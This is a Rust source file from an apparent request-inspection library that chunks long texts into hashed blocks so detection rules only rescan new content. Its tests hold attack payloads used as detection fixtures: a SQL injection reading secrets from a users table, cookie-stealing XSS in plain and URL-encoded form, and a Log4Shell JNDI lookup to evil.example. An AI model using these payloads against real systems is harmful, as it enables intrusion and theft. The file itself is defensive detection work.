//! Long texts in pieces: where a text shows a rule what it needs, with some of what stands around.
//! It never tells what a piece means, and never leaves out a place where a rule's signs stand
//! together, unless the same bytes were there in an earlier form of the value.
use alloc::collections::BTreeSet;
use alloc::vec::Vec;
use core::hash::Hasher;
use core::ops::Range;

use credenza_event::{Form, Part};
use siphasher::sip::SipHasher13;

use crate::gate::{self, Hot, Signals};
use crate::inspect::HashKey;
use crate::sought;

// Limit: a block has 256 bytes at least and some 450 most of the time: what a rule needs stands
// within two neighbours, and the longest attack of one line that is common has some four hundred.
const BLOCK_BYTES_MIN: usize = 256;
const BLOCK_BYTES_MAX: usize = 1024;
// Limit: two blocks on either side, about a kilobyte, tell what is said around an attack.
const MARGIN_BLOCKS: usize = 2;
// Limit: the longest word of a vocabulary has 27 letters.
const WORD_BYTES: usize = 32;
// Limit: 16,384 blocks are the forms of some 7 MB; beyond them every block is a new one.
const SEEN_MAX: usize = 1 << 14;

/// The blocks that were there in an earlier form of the same value: their hashes under a key that
/// nobody knows, so that no attack looks like a harmless block.
pub(crate) type Seen = BTreeSet<u64>;

/// A text in blocks that end where its words say so, so that what stands behind a change is parted
/// as it was before.
struct Block {
    range: Range<usize>,
    is_new: bool,
    /// The rules that find in it and its neighbour behind it what they need.
    hot: Hot,
}

/// Which rules have to look at which blocks of a text.
pub(crate) struct Pieces(Vec<Block>);

impl Pieces {
    /// Reads a text once.
    pub(crate) fn of(form: &Form<'_>, seen: &mut Seen, key: &HashKey) -> Self {
        let mut place = SipHasher13::new_with_key(&key.0);
        place.write(form.pointer().as_bytes());
        place.write_u8(form.role as u8);
        place.write_u8(u8::from(form.part == Part::Key));
        let mut blocks = Vec::new();
        let mut start = 0_usize;
        while start < form.text.len() {
            let end = end_of_block(form.text, start);
            let mut block = place;
            block.write(form.text.get(start..end).unwrap_or_default());
            let hash = block.finish();
            let is_new = if seen.len() < SEEN_MAX {
                seen.insert(hash)
            } else {
                !seen.contains(&hash)
            };
            blocks.push(Block {
                range: start..end,
                is_new,
                hot: Hot::COLD,
            });
            start = end;
        }
        let mut pieces = Self(blocks);
        pieces.read(form);
        pieces
    }

    /// Finds what wakes which rule, in new blocks and their neighbours.
    fn read(&mut self, form: &Form<'_>) {
        let mut before: Option<Signals> = None;
        for index in 0..self.0.len() {
            let mut pair = self.0.iter().skip(index);
            let (Some(block), next) = (pair.next(), pair.next()) else {
                return;
            };
            if !block.is_new && next.is_none_or(|next| !next.is_new) {
                before = None;
                continue;
            }
            let own = before.take().unwrap_or_else(|| shown(form, block));
            let behind = next.map(|next| shown(form, next));
            before = behind;
            let both = own.with(behind.unwrap_or_default());
            if let Some(block) = self.0.get_mut(index) {
                block.hot = gate::wakes(both);
            }
        }
    }

    /// The rules that have to look at some piece.
    pub(crate) fn rules(&self) -> Hot {
        let all = self.0.iter().map(|block| block.hot);
        all.fold(Hot::COLD, Hot::with)
    }

    /// The pieces that one of these rules has to look at, in order.
    pub(crate) fn for_rule(&self, rule: Hot) -> impl Iterator<Item = Range<usize>> + '_ {
        let mut at = 0_usize;
        core::iter::from_fn(move || {
            let is_hot = |block: &Block| !block.hot.within(rule).is_cold();
            let first = self.0.get(at..)?.iter().position(is_hot)?;
            let first = at.saturating_add(first);
            // A hot block and its neighbour, and on as long as the next one is not far.
            let mut last = first.saturating_add(1);
            let far = MARGIN_BLOCKS.saturating_mul(2);
            let mut next = first.saturating_add(1);
            while next <= last.saturating_add(far) {
                match self.0.get(next) {
                    Some(hot) if is_hot(hot) => last = next.saturating_add(1),
                    Some(_) => {}
                    None => break,
                }
                next = next.saturating_add(1);
            }
            at = next;
            let first = self.0.get(first.saturating_sub(MARGIN_BLOCKS))?;
            let last = self.0.get(last.saturating_add(MARGIN_BLOCKS));
            let last = last.or_else(|| self.0.last())?;
            Some(first.range.start..last.range.end)
        })
    }
}

/// The signals of a block and of a word that reaches into it.
fn shown(form: &Form<'_>, block: &Block) -> Signals {
    let start = block.range.start.saturating_sub(WORD_BYTES);
    let text = form.text.get(start..block.range.end).unwrap_or_default();
    gate::shown(text, form.part, block.range.start == 0)
}

/// Where the block ends that begins at `start`: behind one in thirty-two of the blanks.
fn end_of_block(text: &[u8], start: usize) -> usize {
    let from = start.saturating_add(BLOCK_BYTES_MIN);
    let end = start.saturating_add(BLOCK_BYTES_MAX).min(text.len());
    let window = text.get(..end).unwrap_or(text);
    let ends = |at: &usize| {
        let last = text
            .get(at.saturating_sub(3)..)
            .and_then(<[u8]>::first_chunk);
        let bits = u32::from_le_bytes(last.copied().unwrap_or_default());
        bits.wrapping_mul(0x9e37_79b1) >> 27 == 0
    };
    let blank = sought::all(window, from, *b" \n").find(ends);
    blank.map_or(end, |blank| blank.saturating_add(1))
}

/// The form that is only a piece of another.
pub(crate) fn piece<'f>(form: &Form<'f>, range: &Range<usize>) -> Form<'f> {
    let text = form.text.get(range.clone()).unwrap_or_default();
    Form { text, ..*form }
}

#[cfg(test)]
mod tests {
    use alloc::format;
    use alloc::string::String;
    use alloc::vec::Vec;

    use credenza_event::{Part, Role};

    use crate::{Confidence, HashKey, inspect_text};

    const KEY: HashKey = HashKey([7; 16]);

    fn prose(bytes: usize) -> String {
        let lines: Vec<_> = (0..bytes / 60)
            .map(|line| {
                format!(
                    "Line {line} says what a reader of line {} may skip.\n",
                    line + 7
                )
            })
            .collect();
        lines.concat()
    }

    #[test]
    fn an_attack_is_found_wherever_it_stands_in_a_long_text() {
        for attack in [
            "1' union select name, secret from users where '1'='1",
            "<script>alert(document.cookie)</script>",
            "%3Cscript%3Ealert(document.cookie)%3C/script%3E",
            "${jndi:ldap://evil.example/a}",
        ] {
            let alone = inspect_text(attack.as_bytes(), Role::Body, Part::Value, &KEY);
            assert!(
                alone
                    .findings
                    .iter()
                    .any(|found| found.confidence == Confidence::High)
            );
            for before in [0, 3000, 9000, 40_000] {
                let lead = prose(before);
                let text = format!("{lead}\n{attack}\n{}", prose(30_000));
                let report = inspect_text(text.as_bytes(), Role::Body, Part::Value, &KEY);
                assert!(report.coverage.is_complete(), "{attack} behind {before}");
                let found = report.findings.iter().find(|found| {
                    alone
                        .findings
                        .iter()
                        .any(|one| one.rule.id == found.rule.id)
                });
                let found = found.unwrap_or_else(|| panic!("{attack} behind {before}"));
                let at = found.span.start as usize;
                assert!(at.abs_diff(lead.len()) < 100, "{attack}: {at}");
            }
        }
    }

    #[test]
    fn a_text_of_words_is_read_to_its_end_in_each_form_for_little_more_than_once() {
        let text = format!("{} 50%25 &amp; {}", prose(60_000), prose(60_000));
        let plain = inspect_text(prose(120_000).as_bytes(), Role::Body, Part::Value, &KEY);
        let report = inspect_text(text.as_bytes(), Role::Body, Part::Value, &KEY);
        assert!(report.coverage.is_complete());
        assert!(
            report.steps < 4 * plain.steps,
            "{} {}",
            report.steps,
            plain.steps
        );
    }
}
